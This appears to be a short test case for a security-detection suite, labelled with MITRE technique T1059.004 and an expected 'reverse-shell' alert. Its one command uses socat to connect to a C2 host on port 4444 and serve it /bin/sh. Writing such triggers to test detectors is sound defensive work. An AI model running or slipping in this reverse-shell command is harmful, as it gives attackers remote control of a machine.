# category: suspicious-network
# technique: T1059.004
# art: no
# expect: reverse-shell
# image: debian
# net: yes
# desc: socat connects to the C2 and serves it a shell (socat TCP:C2:4444 EXEC:/bin/sh)
timeout 10 socat "TCP:$C2:4444" EXEC:/bin/sh || true
